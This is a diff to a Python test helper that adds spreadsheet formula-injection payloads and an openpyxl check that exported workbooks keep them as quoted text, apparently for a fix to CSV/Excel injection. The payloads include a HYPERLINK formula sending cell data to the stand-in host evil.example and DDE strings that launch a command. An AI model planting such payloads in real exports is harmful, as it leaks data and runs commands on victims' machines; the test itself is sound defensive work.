@@ -55,3 +55,29 @@ class AccessCase:
         if self.allowed == LOGGED_IN:
             return True
         return role in self.allowed
+
+
+# What every export's test needs: text a hostile user may type, and the check that an
+# exported workbook keeps it as text (issue 14: formula injection).
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/"&A2,"Open")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
+
+
+def assert_written_as_text(response: Any, *texts: str) -> None:
+    """No cell of the downloaded workbook is a formula, and each of `texts` is in it as a
+    string that Excel shows as typed."""
+    import io
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    for text in texts:
+        found = [cell for cell in cells if cell.value == text]
+        assert found, text
+        assert {(cell.data_type, cell.quotePrefix) for cell in found} == {("s", True)}
